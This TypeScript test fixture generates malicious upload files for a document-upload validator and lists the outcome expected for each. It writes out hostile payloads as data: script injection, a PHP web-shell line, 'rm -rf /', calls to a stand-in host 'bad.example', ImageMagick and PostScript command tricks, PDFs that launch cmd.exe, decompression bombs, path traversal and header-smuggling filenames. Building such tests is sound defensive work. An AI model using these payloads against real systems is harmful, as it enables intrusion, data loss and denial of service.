/** Files that somebody might send to do harm, each made here, with what has to become of it. */
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import {
  drawing,
  packed,
  pages,
  pdfOf,
  pngChunk,
  pngClaiming,
  tinyJpeg,
  tinyPdf,
  tinyPng,
  tinyWebp,
  tinyZip,
} from '../support/files.ts';
import { box, claiming, PHOTOGRAPH, withItems } from '../support/heic.ts';

/** Refused with a text of `documents.error`; kept where nobody opens it; or served as what it is. */
export type Outcome =
  | 'empty' | 'type' | 'damaged' | 'mixed' | 'locked' | 'image'
  | 'apart'
  | 'application/pdf' | 'image/jpeg' | 'image/png' | 'image/webp'; // prettier-ignore

/** A kind of file: what it is, what it is called, how it is made, and what becomes of it. */
export type Kind = readonly [what: string, name: string, make: () => Buffer | Promise<Buffer>, outcome: Outcome];

const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const join = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? text(part) : part)));
const catalogue = (more: string, ...objects: Parameters<typeof pdfOf>[0][number][]): Buffer =>
  pdfOf([...pages(1, more), ...objects]);
/** A JPEG with a segment right behind its beginning. */
async function jpegWith(marker: number, body: Buffer | string): Promise<Buffer> {
  const jpeg = await tinyJpeg();
  const content = typeof body === 'string' ? text(body) : body;
  const head = Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255]);
  return join(jpeg.subarray(0, 2), head, content, jpeg.subarray(2));
}
/** An archive as Word writes one, with a part that unpacks to twenty million bytes. */
function docxBomb(): Buffer {
  const body = deflateRawSync(Buffer.alloc(20_000_000));
  const name = text('word/document.xml');
  const local = Buffer.alloc(30);
  local.write('PK\x03\x04', 0, 'latin1');
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(20_000_000, 22);
  local.writeUInt16LE(name.length, 26);
  return join(local, name, body, tinyZip('[Content_Types].xml'));
}
/** A moving WebP that claims a great many large frames. */
async function webpAnimation(): Promise<Buffer> {
  const frames = Buffer.alloc(64 * 64 * 40 * 3, 120);
  return sharp(frames, { raw: { width: 64, height: 64 * 40, channels: 3, pageHeight: 64 } })
    .webp()
    .toBuffer();
}
function webpClaiming(): Buffer {
  const vp8x = Buffer.alloc(18);
  vp8x.write('VP8X', 0, 'latin1');
  vp8x.writeUInt32LE(10, 4);
  vp8x.fill(0xff, 12, 18); // 16 million a side
  const anim = join('ANIM', Buffer.from([6, 0, 0, 0]), Buffer.alloc(6));
  const body = join('WEBP', vp8x, anim);
  const head = Buffer.alloc(8);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(body.length, 4);
  return join(head, body);
}
async function pngWith(name: string, body: Buffer): Promise<Buffer> {
  const png = await tinyPng();
  return join(png.subarray(0, 33), pngChunk(name, body), png.subarray(33));
}
const scan = (dictionary: string, body: Buffer): Buffer =>
  pdfOf([...pages(1), { dictionary: `/Type /XObject /Subtype /Image ${dictionary}`, body }]);

// A row a line reads as the table it is.
// prettier-ignore
export const KINDS: readonly Kind[] = [
  ['nothing', 'a.pdf', () => Buffer.alloc(0), 'empty'],
  ['one byte', 'a.pdf', () => text('%'), 'type'],
  ['zeros', 'a.jpg', () => Buffer.alloc(4_096), 'type'],
  ['HTML', 'rapor.html', () => text('<!doctype html><script>alert(document.cookie)</script>'), 'type'],
  ['HTML called a PDF', 'rapor.pdf', () => text('<html><body onload=alert(1)>'), 'type'],
  ['HTML in UTF-16', 'rapor.pdf', () => Buffer.from('\ufeff<script>alert(1)</script>', 'utf16le'), 'type'],
  ['SVG', 'logo.svg', () => text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'type'],
  ['SVG that draws in a file of the server', 'logo.png', () => text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'), 'type'],
  ['a thousand million laughs', 'a.xml', () => text('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'), 'type'],
  ['a web page with its archive (MHTML)', 'a.mht', () => text('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>1</script>'), 'type'],
  ['JavaScript', 'a.js', () => text('fetch("//bad.example")'), 'type'],
  ['a shell script', 'a.sh', () => text('#!/bin/sh\nrm -rf /\n'), 'type'],
  ['PHP', 'a.php.jpg', () => text('<?php system($_GET[0]); ?>'), 'type'],
  ['a Windows program', 'paspor.pdf.exe', () => join('MZ\x90\0', Buffer.alloc(400)), 'type'],
  ['a Linux program', 'paspor', () => join('\x7fELF\x02\x01\x01', Buffer.alloc(400)), 'type'],
  ['an Android program', 'foto.apk', () => tinyZip('AndroidManifest.xml'), 'type'],
  ['a Java program', 'a.class', () => join('\xca\xfe\xba\xbe', Buffer.alloc(60)), 'type'],
  ['a shortcut of Windows', 'paspor.pdf.lnk', () => join('L\0\0\0\x01\x14\x02\0', Buffer.alloc(60)), 'type'],
  ['a Word document that is a bomb', 'surat.docx', docxBomb, 'type'],
  ['an old Word document with macros', 'surat.doc', () => join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(600)), 'type'],
  ['a text with commands (RTF)', 'surat.rtf', () => text('{\\rtf1\\ansi{\\object\\objocx}}'), 'type'],
  ['an archive that unpacks above its folder', 'a.zip', () => tinyZip('../../../etc/passwd'), 'type'],
  ['a gzip bomb', 'a.gz', () => gzipSync(Buffer.alloc(20_000_000)), 'type'],
  ['a PDF in gzip', 'rapor.pdf', () => gzipSync(tinyPdf()), 'type'],
  ['a PDF in brotli', 'rapor.pdf', () => brotliCompressSync(tinyPdf()), 'type'],
  ['a PDF in Base64', 'rapor.pdf', () => text(tinyPdf().toString('base64')), 'type'],
  ['PostScript', 'a.eps', () => text('%!PS-Adobe-3.0\n(%pipe%id) (r) file'), 'type'],
  ['an ImageMagick script', 'a.png', () => text('push graphic-context\nfill "url(https://bad.example/|id)"'), 'type'],
  ['a GIF', 'a.gif', async () => join('GIF89a', Buffer.alloc(60)), 'type'],
  ['a TIFF called a JPEG', 'a.jpg', () => join('II*\0\x08\0\0\0', Buffer.alloc(60)), 'type'],
  ['a Photoshop file', 'a.psd', () => join('8BPS\0\x01', Buffer.alloc(60)), 'type'],
  ['a film', 'a.mp4', () => box('ftyp', text('isom\0\0\0\0isomiso2avc1mp41')), 'type'],
  ['an AVIF', 'a.avif', () => join(box('ftyp', text('avif\0\0\0\0avifmif1miaf')), PHOTOGRAPH.subarray(28)), 'type'],
  ['a burst of HEIC pictures that moves', 'a.heics', () => join(box('ftyp', text('hevc\0\0\0\0hevcmsf1')), PHOTOGRAPH.subarray(28)), 'type'],
  ['a HEIC cut off', 'a.heic', () => PHOTOGRAPH.subarray(0, 700), 'image'],
  ['a HEIC with a beginning alone', 'a.heic', () => box('ftyp', text('heic\0\0\0\0mif1heic')), 'image'],
  ['a HEIC of four thousand million pixels', 'a.heic', () => claiming(65_535, 65_535), 'image'],
  ['a HEIC with sixty thousand things', 'a.heic', () => withItems(60_000), 'image'],
  ['a HEIC of ten thousand boxes', 'a.heic', () => join(PHOTOGRAPH, ...Array.from({ length: 10_000 }, () => box('free'))), 'image'],
  ['a HEIC with a box of minus one', 'a.heic', () => join(PHOTOGRAPH, '\0\0\0\x01free\xff\xff\xff\xff\xff\xff\xff\xff'), 'image'],
  ['a HEIC with HTML behind it', 'a.heic', () => join(PHOTOGRAPH, box('free', text('<script>alert(1)</script>'))), 'image/jpeg'],
  ['half a JPEG', 'a.jpg', async () => (await tinyJpeg()).subarray(0, 200), 'damaged'],
  ['a JPEG without pixels', 'a.jpg', () => text('\xff\xd8\xff\xd9'), 'damaged'],
  ['a JPEG with HTML in a comment', 'a.jpg', () => jpegWith(0xfe, '<script>alert(1)</script>'), 'mixed'],
  ['a JPEG with PHP in its EXIF', 'a.jpg', () => jpegWith(0xe1, 'Exif\0\0<?php system(1); ?>'), 'mixed'],
  ['a JPEG with a link that runs in its XMP', 'a.jpg', () => jpegWith(0xe1, 'http://ns.adobe.com/xap/1.0/\0<a href="javascript:alert(1)">'), 'mixed'],
  ['a JPEG with HTML behind it', 'a.jpg', async () => join(await tinyJpeg(), '<script>alert(1)</script>'), 'mixed'],
  ['a JPEG that is a PDF too', 'a.jpg', async () => join(await tinyJpeg(), tinyPdf()), 'mixed'],
  ['a JPEG that is an archive too', 'a.jpg', async () => join(await tinyJpeg(), tinyZip()), 'mixed'],
  ['a JPEG that is a Java archive behind a second picture', 'a.jpg', async () => join(await tinyJpeg(), await tinyJpeg(), tinyZip('META-INF/MANIFEST.MF')), 'mixed'],
  ['a JPEG with three pictures behind each other (MPO)', 'a.mpo', async () => join(await tinyJpeg(), await tinyJpeg(), await tinyJpeg()), 'image/jpeg'],
  ['a JPEG with a moving picture behind it', 'a.jpg', async () => join(await tinyJpeg(), box('ftyp', text('isom\0\0\0\0isommp42')), Buffer.alloc(64, 7)), 'image/jpeg'],
  ['a JPEG whose colour profile is a bomb', 'a.jpg', () => jpegWith(0xe2, join('ICC_PROFILE\0\x01\x01', deflateSync(Buffer.alloc(5_000_000)))), 'image/jpeg'],
  ['a PNG of ten thousand million pixels', 'a.png', () => pngClaiming(100_000, 100_000), 'image'],
  ['a PNG one pixel high and a hundred million wide', 'a.png', () => pngClaiming(100_000_000, 1), 'image'],
  ['a PNG whose colour profile unpacks without end', 'a.png', () => pngWith('iCCP', join('x\0\0', deflateSync(Buffer.alloc(20_000_000)))), 'image/png'],
  ['a PNG whose text unpacks without end', 'a.png', () => pngWith('zTXt', join('Comment\0\0', deflateSync(Buffer.alloc(20_000_000)))), 'image/png'],
  ['a PNG with HTML in its text', 'a.png', () => pngWith('tEXt', text('Comment\0<script>alert(1)</script>')), 'mixed'],
  ['a PNG with an archive behind it', 'a.png', async () => join(await tinyPng(), tinyZip()), 'mixed'],
  ['a PNG with a program behind it', 'a.png', async () => join(await tinyPng(), 'MZ\x90\0', Buffer.alloc(60)), 'mixed'],
  ['a WebP that moves', 'a.webp', webpAnimation, 'image/webp'],
  ['a WebP of sixteen million pixels a side', 'a.webp', webpClaiming, 'image'],
  ['a WebP with HTML behind it', 'a.webp', async () => join(await tinyWebp(), '<script>alert(1)</script>'), 'mixed'],
  ['a PDF under a password', 'a.pdf', () => pdfOf(pages(1), '/Encrypt 9 0 R'), 'locked'],
  ['half a PDF', 'a.pdf', () => tinyPdf().subarray(0, 150), 'damaged'],
  ['a PDF behind a program', 'a.pdf', () => join('MZ\x90\0', tinyPdf()), 'type'],
  ['a PDF with HTML before its first object', 'a.pdf', () => text(tinyPdf().toString('latin1').replace('1 0 obj', '<html>1 0 obj')), 'damaged'],
  ['a PDF that is an archive too', 'a.pdf', () => join(tinyPdf(), tinyZip()), 'mixed'],
  ['a PDF that is HTML too', 'a.pdf', () => join(tinyPdf(), '<script>alert(1)</script>'), 'damaged'],
  ['a PDF with JavaScript', 'a.pdf', () => catalogue('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'apart'],
  ['a PDF with JavaScript spelled in codes', 'a.pdf', () => catalogue('', '<< /S /J#61v#61Script /J#53 (app.alert(1)) >>'), 'apart'],
  ['a PDF with JavaScript in packed objects', 'a.pdf', () => pdfOf([...pages(1), packed([[9, '<< /S /JavaScript /JS (x) >>']])]), 'apart'],
  ['a PDF that starts a program', 'a.pdf', () => catalogue('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'apart'],
  ['a PDF with a file inside', 'a.pdf', () => catalogue('/Names << /EmbeddedFiles 9 0 R >>'), 'apart'],
  ['a PDF that opens one inside itself', 'a.pdf', () => catalogue('', '<< /S /GoToE >>'), 'apart'],
  ['a PDF form of XFA', 'a.pdf', () => catalogue('/AcroForm << /XFA 9 0 R >>'), 'apart'],
  ['a PDF that sends a form away', 'a.pdf', () => catalogue('', '<< /S /SubmitForm /F (https://bad.example) >>'), 'apart'],
  ['a PDF with rich media', 'a.pdf', () => catalogue('', '<< /Subtype /RichMedia >>'), 'apart'],
  ['a PDF whose packed objects grow without end', 'a.pdf', () => pdfOf([...pages(1), { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', body: deflateSync(Buffer.alloc(60_000_000)) }]), 'apart'],
  ['a PDF that says it has a million pages', 'a.pdf', () => text(tinyPdf().toString('latin1').replace('/Count 1', '/Count 999999')), 'application/pdf'],
  ['a PDF whose picture claims to be as large as a wall', 'a.pdf', () => scan('/Width 60000 /Height 60000 /Filter /DCTDecode', text('\xff\xd8\xff\xd9')), 'application/pdf'],
  ['a PDF whose picture is HTML', 'a.pdf', () => scan('/Width 600 /Height 600 /Filter /DCTDecode', text('<script>alert(1)</script>')), 'application/pdf'],
  ['a PDF of ten thousand pages', 'a.pdf', () => tinyPdf({ pages: 10_000 }), 'application/pdf'],
  ['a PDF whose pages are as large as a field', 'a.pdf', () => text(tinyPdf().toString('latin1').replace('200 200', '99999999 1')), 'application/pdf'],
  ['a PDF whose tree of pages bites its tail', 'a.pdf', () => text(tinyPdf().toString('latin1').replace('[3 0 R]', '[2 0 R]')), 'application/pdf'],
  ['a PDF whose page says without end what to draw', 'a.pdf', () => drawing({ dictionary: '/Filter /FlateDecode', body: deflateSync(Buffer.alloc(60_000_000, '0 0 m 9 9 l S ')) }), 'application/pdf'],
  ['a PDF that links to the web', 'a.pdf', () => catalogue('', '<< /S /URI /URI (javascript:alert(1)) >>'), 'application/pdf'],
  ['a PDF under a path', '../../../etc/passwd', () => tinyPdf(), 'application/pdf'],
  ['a PDF under a path of Windows', 'C:\\Windows\\system32\\a.pdf', () => tinyPdf(), 'application/pdf'],
  ['a PDF under a name with line breaks', 'a\r\nContent-Type: text/html\r\n\r\n<script>.pdf', () => tinyPdf(), 'application/pdf'],
  ['a PDF under a name that reads backwards', 'paspor\u202Efdp.exe', () => tinyPdf(), 'application/pdf'],
  ['a PDF under two endings', 'paspor.html.pdf.exe', () => tinyPdf(), 'application/pdf'],
  ['a PDF under a name of quotes and percent signs', '"; filename="x.html%00', () => tinyPdf(), 'application/pdf'],
  ['a PDF under a name of HTML', '<img src=x onerror=alert(1)>.pdf', () => tinyPdf(), 'application/pdf'],
  ['a PDF under a name of four-byte letters', '🛂'.repeat(200), () => tinyPdf(), 'application/pdf'],
  ['a PDF under dots alone', '...', () => tinyPdf(), 'application/pdf'],
];
